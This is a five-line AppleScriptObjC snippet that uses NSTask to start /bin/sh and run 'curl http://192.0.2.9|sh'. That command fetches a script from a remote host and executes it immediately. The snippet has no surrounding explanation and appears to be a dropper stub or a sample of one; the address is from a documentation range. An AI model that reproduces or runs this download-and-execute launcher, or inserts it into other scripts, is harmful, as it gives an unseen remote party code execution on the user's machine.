use framework "Foundation"
set t to current application's NSTask's alloc()'s init()
t's setLaunchPath:"/bin/sh"
t's setArguments:{"-c","curl http://192.0.2.9|sh"}
t's |launch|()
